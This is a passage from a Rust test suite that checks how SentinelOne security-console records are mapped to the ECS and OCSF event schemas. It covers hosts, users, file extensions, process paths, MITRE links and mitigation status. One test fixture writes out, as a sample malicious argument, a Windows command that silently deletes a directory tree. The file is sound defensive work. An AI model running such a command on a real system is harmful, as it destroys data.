        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_fields(at(&event, path), &[("name", json!("jane")), ("email", json!(name)), ("domain", Value::Null)]);
    }
    let record = activity(27, json!({}), json!({"username": "ACME\\jane"}));
    assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &record), &[("actor.user.domain", json!("ACME"))]);
    assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("user.domain", json!("ACME"))]);
}

/// Maps a unified alert with these assets to ECS and OCSF.
#[track_caller]
fn with_assets(assets: Value, others: Value) -> [Value; 2] {
    let mut record = others;
    record["id"] = json!("u");
    record["detectedAt"] = json!("2026-01-01T00:00:00Z");
    record["assets"] = assets;
    [Schema::Ecs, Schema::Ocsf].map(|schema| {
        let event = map_to(schema, Stream::UnifiedAlerts, &record);
        assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
        event
    })
}

#[test]
fn only_a_user_of_the_directory_is_a_user() {
    let process = json!({"process": {"username": "ACME\\bob", "cmdLine": "cmd.exe"}});
    let identity = |word: Value| json!({"id": "a", "name": "n", "category": "Identity", "subcategory": word});
    for word in ["Active Directory Domain", "Domain", "Group", "User Group", "OU", "AD Forest", "Application", "Tenant"]
    {
        for agent in [Value::Null, json!("u-1")] {
            let mut asset = identity(json!(word));
            asset["agentUuid"] = agent.clone();
            asset["osType"] = if agent.is_null() { Value::Null } else { json!("WINDOWS") };
            let [ecs, ocsf] = with_assets(json!([asset]), process.clone());
            let related = [("related.user", json!(["bob"])), ("related.hosts", Value::Null)];
            assert_fields(&ecs, &[("user.name", json!("bob")), ("host", Value::Null)]);
            assert_fields(&ecs, &related);
            assert_fields(&ocsf, &[("device", Value::Null), ("actor.user.name", json!("bob"))]);
            assert_eq!(ocsf.pointer("/evidences/1"), None, "{word}: {ocsf:#}");
            assert_eq!(ocsf.pointer("/resources/0/name"), Some(&json!("n")), "{word}: {ocsf:#}");
            // No other one is a user either.
            let host = json!({"id": "b", "name": "H", "category": "Server", "primary": true});
            let [ecs, _] = with_assets(json!([host, asset]), process.clone());
            assert_fields(&ecs, &[("related.user", json!(["bob"])), ("related.hosts", json!(["H"]))]);
        }
    }
    for word in [
        json!("User"),
        json!("AD User"),
        json!("Entra ID User"),
        json!("User Account"),
        json!("Service Account"),
        json!("Group Managed Service Account"),
        json!("Service Principal"),
        json!("Account"),
        json!(""),
        Value::Null,
    ] {
        let [ecs, ocsf] = with_assets(json!([identity(word.clone())]), process.clone());
        assert_fields(&ecs, &[("user.name", json!("n")), ("host", Value::Null), ("related.hosts", Value::Null)]);
        assert_eq!(ocsf.pointer("/evidences/1/user/name"), Some(&json!("n")), "{word}: {ocsf:#}");
    }
}

#[test]
fn the_type_of_an_older_consoles_asset_is_one_of_a_machine() {
    let asset = json!({"id": "a", "name": "H1", "type": "endpoint"});
    check(
        "older-unified-alert-with-a-type",
        Stream::UnifiedAlerts,
        &json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "asset": asset}),
        &[("host", json!({"name": "H1", "hostname": "H1", "type": "endpoint"})), ("related.hosts", json!(["H1"]))],
        &[("device.hostname", json!("H1")), ("resources", json!([{"uid": "a", "name": "H1", "type": "endpoint"}]))],
    );
}

#[test]
fn a_machine_needs_no_system() {
    for (word, id, caption) in [
        ("Thin Client", 2, "Desktop"),
        ("VDI", 6, "Virtual"),
        ("Hypervisor", 1, "Server"),
        ("File Server", 1, "Server"),
        ("Point of Sale", 0, "Unknown"),
        ("Printer", 7, "IOT"),
        ("NAS", 7, "IOT"),
        ("IP Camera", 7, "IOT"),
        ("Database Server", 1, "Server"),
        ("DB Server", 1, "Server"),
        ("Red Hat Server", 1, "Server"),
        ("SQL Server Virtual Machine", 6, "Virtual"),
    ] {
        let [ecs, ocsf] = with_assets(json!([{"name": "H", "category": "Other", "subcategory": word}]), json!({}));
        assert_fields(&ecs, &[("host.name", json!("H")), ("host.type", json!(word.to_lowercase()))]);
        assert_fields(&ocsf, &[("device.type_id", json!(id)), ("device.type", json!(caption))]);
    }
    for word in ["Serverless", "Server Group", "Azure SQL Server", "MySQL Server", "Printer Group"] {
        let [ecs, ocsf] = with_assets(json!([{"name": "H", "category": "Other", "subcategory": word}]), json!({}));
        assert_fields(&ecs, &[("host", Value::Null), ("related", Value::Null)]);
        assert_fields(&ocsf, &[("device", Value::Null)]);
    }
}

#[test]
fn the_database_of_a_cloud_is_no_host() {
    for word in [
        "SQL Server",
        "Azure MySQL Flexible Server",
        "Azure Database for MySQL Flexible Server",
        "Azure Database for PostgreSQL - Flexible Server",
        "Azure Database for PostgreSQL/MySQL Server",
        "Postgres Single Server",
        "MariaDB Managed Server",
        "Cosmos DB Server",
        "CosmosDB Server",
        "MongoDB Atlas Server",
        "Redis Enterprise Server",
    ] {
        for key in ["category", "subcategory", "assetTypeClassifier", "type"] {
            let mut asset = json!({"name": "db1"});
            asset[key] = json!(word);
            let [ecs, ocsf] = with_assets(json!([asset]), json!({}));
            assert_fields(&ecs, &[("host", Value::Null), ("related", Value::Null)]);
            assert_fields(&ocsf, &[("device", Value::Null)]);
        }
    }
}

#[test]
fn a_set_of_machines_is_no_host() {
    for asset in [
        json!({"category": "Virtual Machine Scale Set"}),
        json!({"category": "Compute", "subcategory": "Virtual Machine Scale Set", "osType": "LINUX"}),
        json!({"category": "Virtual Machine", "subcategory": "Virtual Machine Scale Set"}),
        json!({"category": "Compute", "assetTypeClassifier": "GCP Compute Instance Group"}),
        json!({"category": "Server", "subcategory": "Server Cluster"}),
        json!({"category": "Compute", "subcategory": "EC2 Instance Profile"}),
    ] {
        let mut asset = asset;
        asset["name"] = json!("v");
        let [ecs, ocsf] = with_assets(json!([asset]), json!({}));
        assert_fields(&ecs, &[("host", Value::Null), ("related", Value::Null)]);
        assert_fields(&ocsf, &[("device", Value::Null)]);
    }
    for asset in [
        json!({"name": "H", "category": "Cluster", "subcategory": "Kubernetes Node"}),
        json!({"name": "H", "category": "Compute", "assetTypeClassifier": "GCP Compute Instance"}),
        json!({"name": "H", "category": "Kubernetes", "subcategory": "Kubernetes Cluster", "agentUuid": "u-1"}),
    ] {
        let [ecs, ocsf] = with_assets(json!([asset]), json!({}));
        assert_fields(&ecs, &[("host.name", json!("H"))]);
        assert_fields(&ocsf, &[("device.hostname", json!("H"))]);
    }
}

#[test]
fn only_hosts_are_related_as_hosts() {
    let asset =
        |name: &str, category: &str, word: &str| json!({"name": name, "category": category, "subcategory": word});
    let assets = json!([
        asset("h1", "Server", "Other Server"),
        asset("b1", "Storage", "S3 Bucket"),
        asset("f1", "Function", "Lambda Function"),
        asset("c1", "Kubernetes", "Kubernetes Cluster"),
        asset("123456789012", "Account", "AWS Account"),
        asset("h2", "Workstation", "Laptop"),
        {"name": "h3", "category": "Container", "osType": "LINUX"},
        {"name": "h4", "category": "Device", "agentVersion": "25.1"},
    ]);
    let [ecs, ocsf] = with_assets(assets, json!({}));
    assert_fields(&ecs, &[("related.hosts", json!(["h1", "h2", "h3", "h4"])), ("related.user", Value::Null)]);
    assert_eq!(ocsf["resources"].as_array().map(Vec::len), Some(8), "{ocsf:#}");
    let [ecs, _] = with_assets(json!([asset("b1", "Storage", "S3 Bucket")]), json!({}));
    assert_fields(&ecs, &[("related", Value::Null)]);
}

#[test]
fn a_name_without_a_path_has_an_extension_in_all_streams() {
    for (name, expected) in
        [("a.EXE", json!("exe")), ("notes.txt", json!("txt")), ("bash", Value::Null), ("a.1", Value::Null)]
    {
        let data = json!({"threatClassification": "Malware", "fileDisplayName": name});
        for (stream, record) in [
            (Stream::Threats, threat(json!({"threatName": name}), json!({}))),
            (Stream::Threats, threat(json!({"threatName": "n", "fileDisplayName": name}), json!({}))),
            (Stream::Activities, activity(19, json!({"threatId": "5"}), data)),
            (Stream::UnifiedAlerts, json!({"id": "1", "process": {"file": {"name": name}}})),
        ] {
            let event = map_to(Schema::Ecs, stream, &record);
            assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("file.name", json!(name)), ("file.extension", expected.clone())]);
        }
    }
}

#[test]
fn a_version_is_no_extension_of_a_file() {
    let cases = [
        ("/usr/bin/python3.11", Value::Null),
        ("C:\\x\\19.152.0801.0008", Value::Null),
        ("/x/a.7z", json!("7z")),
        ("/x/a.mp3", json!("mp3")),
    ];
    for (path, expected) in cases {
        let name = path.rsplit(['/', '\\']).next().unwrap();
        let file = json!({"name": name, "path": path});
        let events = json!({"alertInfo": {"alertId": "1", "eventType": "FILECREATION"},
            "targetProcessInfo": {"tgtFilePath": path}});
        for (stream, record) in [
            (Stream::Threats, threat(json!({"filePath": path}), json!({}))),
            (Stream::Activities, activity(19, json!({"threatId": "5"}), json!({"filePath": path}))),
            (Stream::Alerts, events),
            (Stream::UnifiedAlerts, json!({"id": "1", "process": {"file": file}})),
        ] {
            let event = map_to(Schema::Ecs, stream, &record);
            assert_fields(&event, &[("file.path", json!(path)), ("file.extension", expected.clone())]);
        }
    }
    // The console takes its extensions from the names.
    let record = threat(json!({"filePath": "C:\\x\\19.152.0801.0008", "fileExtension": "0008"}), json!({}));
    let event = map_to(Schema::Ecs, Stream::Threats, &record);
    assert_fields(
        &event,
        &[
            ("file.extension", Value::Null),
            ("threat.indicator.file.extension", Value::Null),
            ("sentinel_one.threat.threat_info.file_extension", json!("0008")),
        ],
    );
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    assert_eq!(event.pointer("/evidences/0/file/ext"), None, "{event:#}");
    assert_fields(&event, &[("unmapped.threatInfo.fileExtension", json!("0008"))]);
    // Whether it ran is not decided by that.
    let info = json!({"filePath": "C:\\x\\19.152.0801.0008", "detectionType": "dynamic",
        "maliciousProcessArguments": "/q /c rmdir /s /q C:\\x\\19.152.0801.0008"});
    assert_fields(&map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({}))), &[("process", Value::Null)]);
}

/// Maps an activity to ECS and OCSF.
#[track_caller]
fn of_activity(number: u32, fields: Value, data: Value) -> [Value; 2] {
    let record = activity(number, fields, data);
    [Schema::Ecs, Schema::Ocsf].map(|schema| {
        let event = map_to(schema, Stream::Activities, &record);
        assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
        event
    })
}

/// `data` of an activity about a unified alert in each of its forms: flat, in objects, and with the names of the
/// objects in its keys.
fn forms_of_alert(name: &str, value: Value) -> [Value; 7] {
    let camel: String = name.split('_').enumerate().fold(String::new(), |key, (index, word)| {
        if index == 0 { word.to_owned() } else { key + &word[..1].to_uppercase() + &word[1..] }
    });
    let user = json!({"id": "234", "enriched_name": "jane@acme.example"});
    let nested = |payload: Value| json!({"alert": {"id": "A"}, "user": user, "payload": payload});
    let dotted = |path: &str| {
        json!({"alert.id": "A", "user.id": "234", "user.enriched_name": "jane@acme.example",
            format!("{path}{name}"): value})
    };
    [
        json!({"alertId": "A", "userId": "234", "username": "jane@acme.example", camel.clone(): value}),
        json!({"alert_id": "A", "user_id": "234", "user_name": "jane@acme.example", name: value}),
        nested(json!({"changes": {name: value}})),
        nested(json!({name: value})),
        nested(json!({"changes": {camel: value}})),
        dotted("payload.changes."),
        dotted("payload."),
    ]
}

#[test]
fn an_activity_about_an_alert_says_the_same_in_each_form() {
    let nested = |payload: Value| json!({"alert": {"id": "A"}, "user": {"id": "234", "enriched_name": "jane@acme.example"}, "payload": payload});
    check(
        "alert-severity-changed",
        Stream::Activities,
        &activity(16003, json!({}), nested(json!({"changes": {"old_severity": "LOW", "new_severity": "CRITICAL"}}))),
        &[("user.id", json!("234")), ("user.email", json!("jane@acme.example")), ("event.severity", json!(99))],
        &[("severity", json!("Critical")), ("actor.user.uid", json!("234"))],
    );
    check(
        "alert-assignee-changed",
        Stream::Activities,
        &activity(
            16004,
            json!({}),
            nested(json!({"changes": {"new_assignee_id": "77", "new_assignee_email": "bob@acme.example"}})),
        ),
        &[("related.user", json!(["jane", "jane@acme.example", "bob@acme.example"]))],
        &[("assignee.uid", json!("77")), ("assignee.email_addr", json!("bob@acme.example"))],
    );
    check(
        "alert-note-added",
        Stream::Activities,
        &activity(16007, json!({}), nested(json!({"note_text": "Investigated\n- closed. é"}))),
        &[("user.name", json!("jane"))],
        &[("actor.user.email_addr", json!("jane@acme.example"))],
    );
    for (number, name, value, ecs_path, ecs, ocsf_path, ocsf) in [
        (16001, "new_status", "RESOLVED", "/event/reason", json!("RESOLVED"), "/status", "Resolved"),
        (
            16002,
            "new_analyst_verdict",
            "TRUE_POSITIVE",
            "/event/reason",
            json!("TRUE_POSITIVE"),
            "/verdict",
            "True Positive",
        ),
        (16003, "new_severity", "HIGH", "/event/severity", json!(73), "/severity", "High"),
        (16004, "new_assignee_id", "77", "/user/id", json!("234"), "/assignee/uid", "77"),
        (
            16004,
            "new_assignee_email",
            "b@x.example",
            "/related/user/2",
            json!("b@x.example"),
            "/assignee/email_addr",
            "b@x.example",
        ),
        (16007, "note_text", "seen", "/user/name", json!("jane"), "/notes/0/comment", "seen"),
    ] {
        for data in forms_of_alert(name, json!(value)) {
            let [event, finding] = of_activity(number, json!({}), data.clone());
            assert_eq!(event.pointer(ecs_path), Some(&ecs), "{data}: {event:#}");
            assert_eq!(finding.pointer(ocsf_path), Some(&json!(ocsf)), "{data}: {finding:#}");
            assert_fields(&event, &[("user.id", json!("234")), ("sentinel_one.alert.id", json!("A"))]);
            assert_fields(&finding, &[("finding_info", json!({"uid": "A", "title": "SentinelOne alert A"}))]);
            assert_fields(&finding, &[("actor.user.uid", json!("234")), ("class_uid", json!(2004))]);
        }
        // Nothing, and what is no text, is none of these.
        for value in [json!(null), json!(""), json!(["HIGH"]), json!({"a": "b"}), json!("N/A")] {
            // A word in the place of the new severity says that nobody knows it, and not that there is none.
            let severity =
                if name == "new_severity" && value.is_string() && value != "" { Value::Null } else { json!(21) };
            for data in forms_of_alert(name, value) {
                let [event, finding] = of_activity(number, json!({}), data.clone());
                assert_fields(&event, &[("event.reason", Value::Null), ("event.severity", severity.clone())]);
                assert_fields(&finding, &[("assignee", Value::Null), ("notes", Value::Null)]);
                assert_fields(&finding, &[("severity", json!("Unknown")), ("verdict", Value::Null)]);
            }
        }
    }
    // The console itself acted.
    for user in [json!(null), json!({"id": null, "enriched_name": null}), json!([]), json!("")] {
        let [event, finding] = of_activity(16003, json!({}), json!({"alert": {"id": "A"}, "user": user}));
        assert_fields(&event, &[("user", Value::Null)]);
        assert_fields(&finding, &[("actor", json!({"application": {"name": "SentinelOne"}}))]);
    }
    // Who acted for another user.
    let data = json!({"alertId": "A", "byUser": "Boss", "user": {"id": "3", "enriched_name": "x@y.example"}});
    let [event, finding] = of_activity(16004, json!({}), data);
    assert_fields(&event, &[("user", json!({"name": "Boss"}))]);
    assert_fields(&finding, &[("actor.user.name", json!("Boss")), ("actor.user.uid", Value::Null)]);
    // What the action became is no status of the alert.
    let [event, finding] = of_activity(16005, json!({}), json!({"alertId": "A", "newStatus": "mitigated"}));
    assert_fields(&event, &[("event.reason", Value::Null)]);
    assert_fields(&finding, &[("status", Value::Null), ("disposition", json!("Corrected"))]);
    // Unknown words.
    let [event, finding] = of_activity(16003, json!({}), nested(json!({"changes": {"new_severity": "URGENT"}})));
    assert_fields(&event, &[("event.severity", Value::Null)]);
    assert_fields(&finding, &[("severity", json!("Unknown"))]);
    let [_, finding] = of_activity(16001, json!({}), nested(json!({"changes": {"new_status": "ON_HOLD"}})));
    assert_fields(&finding, &[("status", json!("ON_HOLD")), ("status_id", json!(99))]);
    // Activities about something else have other objects of these names.
    let [event, _] = of_activity(71, json!({}), nested(json!({"changes": {"new_severity": "HIGH"}})));
    assert_fields(&event, &[("user", Value::Null), ("event.severity", json!(21))]);
}

#[test]
fn the_title_of_an_activity_says_what_it_is_about() {
    for data in [json!({"alertId": "A"}), json!({"alert": {"id": "A"}}), json!({"alert.id": "A"})] {
        for number in [16000, 16001, 16005, 16008] {
            let [_, event] = of_activity(number, json!({}), data.clone());
            assert_fields(&event, &[("finding_info.title", json!("SentinelOne alert A"))]);
        }
    }
    for number in [2028, 2030, 2036, 4001] {
        let [_, event] = of_activity(number, json!({}), json!({"alertId": "A", "newAnalystVerdict": "undefined"}));
        assert_fields(&event, &[("finding_info.title", json!("SentinelOne alert A"))]);
        // The id of a threat comes first, and the title is that of the id.
        let [_, event] = of_activity(number, json!({"threatId": "5"}), json!({"alertId": "A"}));
        assert_fields(&event, &[("finding_info", event["finding_info"].clone())]);
        assert_fields(
            &event,
            &[("finding_info.uid", json!("5")), ("finding_info.title", json!("SentinelOne threat 5"))],
        );
    }
}

#[test]
fn an_agent_that_is_gone_is_not_managed() {
    for (number, is_managed) in [(47, false), (51, false), (54, false), (17, true), (48, true), (52, true)] {
        let [_, event] = of_activity(number, json!({"agentId": "9"}), json!({"computerName": "PC"}));
        assert_fields(&event, &[("device.is_managed", json!(is_managed))]);
    }
}

#[test]
fn the_note_of_an_activity_is_one_of_its_finding() {
    for (number, note) in [(4020, json!("looks bad")), (4021, json!("looks bad")), (4022, Value::Null)] {
        let [_, event] = of_activity(number, json!({"threatId": "5"}), json!({"noteDetails": "looks bad"}));
        let written = event.pointer("/notes/0/comment").cloned().unwrap_or_default();
        assert_eq!(written, note, "{number} {event:#}");
    }
}

#[test]
fn another_program_of_the_same_name_is_another_process() {
    let processes = |os: &str, originator: &str, file: &str, arguments: &str| {
        let info = json!({"detectionType": "dynamic", "filePath": file, "originatorProcess": originator,
            "maliciousProcessArguments": arguments});
        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": os}}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        let ocsf = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &ocsf), Vec::<String>::new(), "{ocsf:#}");
        let of = |process: &Value| {
            let named = process.get("executable").or_else(|| process.get("name"));
            named.and_then(Value::as_str).unwrap_or_default().to_owned()
        };
        let acted = of(&event["process"]);
        assert_eq!(ocsf.pointer("/evidences/0/data/process"), Some(&json!(acted)), "{ocsf:#}");
        assert_eq!(ocsf.pointer("/evidences/0/data/originator_process"), Some(&json!(originator)), "{ocsf:#}");
        (acted, of(&event["process"]["parent"]))
    };
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    for (os, originator, file, arguments, process, parent) in [
        ("linux", "/usr/bin/bash", "/tmp/a.sh", "/opt/x/bash /tmp/a.sh", "/opt/x/bash", "/usr/bin/bash"),
        (
            "macos",
            "Installer",
            "/Users/j/a.pkg",
            "/usr/sbin/installer -pkg /Users/j/a.pkg",
            "/usr/sbin/installer",
            "Installer",
        ),
        (
            "windows",
            "C:\\x\\cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd.exe /c C:\\x\\a.bat",
            cmd,
            "C:\\x\\cmd.exe",
        ),
        (
            "windows",
            "C:\\Windows\\SysWOW64\\cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd.exe /c C:\\x\\a.bat",
            cmd,
            "C:\\Windows\\SysWOW64\\cmd.exe",
        ),
        // The record has one path for the process, or the same in another form.
        ("linux", "/usr/bin/bash", "/tmp/a.sh", "bash /tmp/a.sh", "/usr/bin/bash", ""),
        ("linux", "bash", "/tmp/a.sh", "/bin/bash /tmp/a.sh", "/bin/bash", ""),
        ("linux", "/bin/bash", "/tmp/a.sh", "/bin/bash /tmp/a.sh", "/bin/bash", ""),
        ("linux", "/usr/bin/python3.11", "/tmp/a.py", "python3 /tmp/a.py", "/usr/bin/python3.11", ""),
        (
            "windows",
            "cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\CMD /c C:\\x\\a.bat",
            "C:\\Windows\\System32\\CMD",
            "",
        ),
        (
            "windows",
            "c:\\windows\\system32\\CMD.EXE",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd /c C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd",
            "",
        ),
        (
            "windows",
            "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd.exe /c C:\\x\\a.bat",
            cmd,
            "",
        ),
        ("windows", cmd, "C:\\x\\a.bat", "cmd /c C:\\x\\a.bat", cmd, ""),
        (
            "windows",
            "\\\\?\\C:\\Windows\\System32\\cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd.exe /c C:\\x\\a.bat",
            cmd,
            "",
        ),
        (
            "windows",
            "C:/Windows/System32/cmd.exe",
            "C:\\x\\a.bat",
            "C:\\Windows\\System32\\cmd.exe /c C:\\x\\a.bat",
            cmd,
            "",
        ),
        ("linux", "/tmp/x/bash", "/tmp/a.sh", "./bash /tmp/a.sh", "/tmp/x/bash", ""),
        ("linux", "/opt/Bash", "/tmp/a.sh", "bash /tmp/a.sh", "bash", "/opt/Bash"),
    ] {
        let found = processes(os, originator, file, arguments);
        assert_eq!(found, (process.to_owned(), parent.to_owned()), "{originator} {arguments}");
    }
    // A session has the path of its program.
    let info =
        json!({"threatName": "bash (interactive session)", "isFileless": true, "originatorProcess": "/usr/bin/bash"});
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({})));
    assert_fields(
        &event,
        &[("process", json!({"name": "bash", "executable": "/usr/bin/bash"})), ("file", Value::Null)],
    );
}

#[test]
fn a_principal_name_is_no_address() {
    let upn = "jane@acme.local";
    let check_owner = |stream: Stream, record: &Value, mail: Value, id: Value| {
        let event = map_to(Schema::Ocsf, stream, record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.owner.email_addr", mail), ("device.owner.uid_alt", id)]);
        event
    };
    for mail in [Value::Null, json!(""), json!("N/A"), json!("none"), json!([])] {
        let directory = json!({"userPrincipalName": upn, "mail": mail});
        let record = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "lastLoggedInUserName": "jane",
            "activeDirectory": directory});
        let event = check_owner(Stream::Agents, &record, Value::Null, json!(upn));
        assert!(!observed(&event).iter().any(|(kind, _)| kind == "Email Address"), "{event:#}");
        let record = threat(
            json!({}),
            json!({"agentDetectionInfo": {"agentLastLoggedInUserName": "ACME\\jane",
            "agentLastLoggedInUpn": upn, "agentLastLoggedInUserMail": mail}, "agentRealtimeInfo": {"agentId": "9"}}),
        );
        check_owner(Stream::Threats, &record, Value::Null, json!(upn));
    }
    // A user with only a principal name, and one with both.
    let mut record = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z",
        "activeDirectory": {"userPrincipalName": upn}});
    check_owner(Stream::Agents, &record, Value::Null, json!(upn));
    record["activeDirectory"]["mail"] = json!("j.doe@acme.example");
    check_owner(Stream::Agents, &record, json!("j.doe@acme.example"), json!(upn));
    // What is no address is none in the field for it either.
    record["activeDirectory"]["mail"] = json!("n/a (jane)");
    check_owner(Stream::Agents, &record, Value::Null, json!(upn));
    assert_fields(&map_to(Schema::Ecs, Stream::Agents, &record), &[("user.email", json!(upn))]);
    let asset = json!({"name": "h", "osType": "WINDOWS", "lastLoggedInUser": upn});
    let record = json!({"id": "1", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset]});
    check_owner(Stream::UnifiedAlerts, &record, Value::Null, Value::Null);
}

#[test]
fn a_link_has_the_id_of_its_technique() {
    let host = "https://attack.mitre.org";
    for (link, technique, sub) in [
        ("/techniques/T1106/", "T1106", None),
        ("/techniques/T1106", "T1106", None),
        ("/techniques/T1055/012", "T1055", Some("T1055.012")),
        ("/techniques/T1055/012/", "T1055", Some("T1055.012")),
        ("/techniques/T1055.012", "T1055", Some("T1055.012")),
        ("/wiki/Technique/T1106", "T1106", None),
        ("/wiki/Technique/T1106/", "T1106", None),
        ("/wiki/technique/t1106", "T1106", None),
        ("/Techniques/T1106?v=1#top", "T1106", None),
        ("/techniques/T1055/012?v=1/013", "T1055", Some("T1055.012")),
        ("/techniques/T1055#012", "T1055", None),
        ("/techniques/T1055/#/012", "T1055", None),
        ("/versions/v9/techniques/T1055/012/", "T1055", Some("T1055.012")),
        ("/beta/techniques/enterprise/T1106/", "T1106", None),
        (" /techniques/T1106/ ", "T1106", None),
    ] {
        let link = format!("{host}{link}");
        for named in [json!({"name": "Some name", "link": link}), json!({"name": link})] {
            let indicators = json!([{"ids": [1], "category": "c", "description": "d",
                "tactics": [{"name": "Execution", "source": "MITRE", "techniques": [named]}]}]);
            let record = threat(json!({}), json!({"indicators": indicators}));
            let event = map_to(Schema::Ecs, Stream::Threats, &record);
            let subs = sub.map_or(Value::Null, |sub| json!([sub]));
            assert_fields(
                &event,
                &[("threat.technique.id", json!([technique])), ("threat.technique.subtechnique.id", subs)],
            );
            let event = map_to(Schema::Ocsf, Stream::Threats, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            let attack = &event["finding_info"]["attacks"][0];
            assert_eq!(attack["technique"]["uid"], technique, "{link}: {event:#}");
            assert_eq!(attack.pointer("/sub_technique/uid").and_then(Value::as_str), sub, "{link}: {event:#}");
        }
    }
    for link in ["", "/software/S0002/", "/wiki/Software/S0002", "/tactics/TA0002/", "/wiki/Technique/", "/T1106"] {
        let named = json!({"name": "Some name", "link": format!("{host}{link}")});
        let indicators = json!([{"tactics": [{"name": "Execution", "techniques": [named]}]}]);
        let event = map_to(Schema::Ecs, Stream::Threats, &threat(json!({}), json!({"indicators": indicators})));
        assert_fields(&event, &[("threat.technique.id", Value::Null)]);
    }
}

#[test]
fn a_processor_of_only_64_bits_needs_no_width() {
    let agent = |cpu: Value, word: Value| {
        let record = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "h", "cpuId": cpu,
            "osArch": word, "osName": "Linux", "osRevision": "5.10"});
        let ocsf = map_to(Schema::Ocsf, Stream::Agents, &record);
        assert_eq!(faults(Schema::Ocsf, &ocsf), Vec::<String>::new(), "{ocsf:#}");
        let make = ocsf.pointer("/device/hw_info/cpu_info_list/0/cpu_architecture").cloned().unwrap_or_default();
        (at(&map_to(Schema::Ecs, Stream::Agents, &record), "host.architecture").clone(), make)
    };
    for cpu in [
        "Google Axion Processor",
        "Microsoft Cobalt 100",
        "NVIDIA Carmel",
        "NVIDIA Grace",
        "NVIDIA Grace CPU Superchip",
        "Grace A02",
        "NVIDIA GH200 480GB",
        "GB200",
        "Neoverse-V2",
        "ARM Neoverse V2",
        "AmpereOne",
        "Ampere(R) Altra(R) Processor",
        "Kunpeng-920",
        "HUAWEI Kunpeng 920 5250",
        "Phytium FT-2000+/64",
        "Phytium,FT-2000+/64",
        "FT-2000+/64",
        "AWS Graviton3",
        "Cavium ThunderX2(R) CPU CN9980 v2.2",
    ] {
        for word in [json!("64 bit"), Value::Null, json!(""), json!("unknown")] {
            assert_eq!(agent(json!(cpu), word.clone()), (json!("arm64"), json!("ARM")), "{cpu} {word}");
        }
    }
    for cpu in ["BCM2711", "Broadcom BCM2837B0", "BCM2712", "BCM2835", "BCM2710A1", "bcm2836"] {
        assert_eq!(agent(json!(cpu), json!("64 bit")), (json!("arm64"), json!("ARM")), "{cpu}");
        assert_eq!(agent(json!(cpu), json!("32 bit")), (json!("arm"), json!("ARM")), "{cpu}");
        assert_eq!(agent(json!(cpu), json!("aarch64")), (json!("arm64"), json!("ARM")), "{cpu}");
        // The processor may have either system.
        assert_eq!(agent(json!(cpu), Value::Null), (Value::Null, Value::Null), "{cpu}");
    }
    for cpu in [
        json!("Loongson-3A5000"),
        json!("Loongson-3A4000 (Loongson-3B4000) @ 1800MHz"),
        json!("Loongson-3C5000L-LL"),
        json!("ICT Loongson-2F"),
        json!("Common KVM processor"),
        json!("Broadcom BCM5719"),
        json!("Gracemont"),
        json!(""),
        json!([]),
    ] {
        for word in [json!("64 bit"), Value::Null, json!("loongarch64")] {
            assert_eq!(agent(cpu.clone(), word), (Value::Null, Value::Null), "{cpu}");
        }
    }
    // A make that the name has first.
    assert_eq!(agent(json!("Intel(R) Xeon(R) FT-1"), json!("64 bit")).0, json!("x86_64"));
}

#[test]
fn what_is_partly_mitigated_is_not_allowed() {
    let report = |action: &str, status: &str, counters: Value| json!({"action": action, "status": status, "actionsCounters": counters});
    let killed = report("kill", "success", Value::Null);
    let [failed, pending] = ["failed", "pending"].map(|status| report("quarantine", status, Value::Null));
    let half = report("kill", "success", json!({"success": 1, "failed": 1, "total": 2}));
    let restored = report("unquarantine", "success", Value::Null);
    let partly = ("Partially Corrected", "Denied");
    for (mode, reports, (disposition, action)) in [
        ("protect", json!([killed, failed]), partly),
        ("protect", json!([failed, killed]), partly),
        ("protect", json!([half]), partly),
        ("protect", json!([report("quarantine", "partial", Value::Null)]), partly),
        ("protect", json!([killed, report("rollback", "failed", Value::Null), pending]), partly),
        ("detect", json!([killed, failed]), partly),
        ("protect", json!([failed]), ("Uncorrected", "Allowed")),
        ("protect", json!([pending]), ("Delayed", "Allowed")),
        ("protect", json!([restored, failed]), ("Restored", "Allowed")),
        ("detect", json!([failed]), ("Uncorrected", "Observed")),
    ] {
        for status in ["not_mitigated", "active"] {
            let record = threat(
                json!({"mitigationStatus": status}),
                json!({"mitigationStatus": reports, "agentRealtimeInfo": {"agentMitigationMode": mode}}),
            );
            let event = map_to(Schema::Ocsf, Stream::Threats, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("disposition", json!(disposition)), ("action", json!(action))]);
        }
    }
}

/// `host.mac` of an agent with this MAC address on one interface and, if it has one, in OCSF.
#[track_caller]
fn check_mac(received: &str, ecs: Option<&str>, ocsf: Option<&str>) {
    let record = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "networkInterfaces": [
